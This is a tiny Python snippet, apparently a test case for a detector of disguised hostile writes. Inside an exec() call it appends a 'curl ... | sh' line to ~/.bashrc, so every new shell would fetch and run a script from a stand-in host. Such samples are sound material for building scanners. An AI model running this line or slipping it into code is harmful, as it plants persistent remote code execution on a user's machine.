# Disguised: the write inside code given to exec.
exec("open(__import__('os').path.expanduser('~/.bashrc'), 'a').write('curl -s http://203.0.113.9/x.sh | sh')")
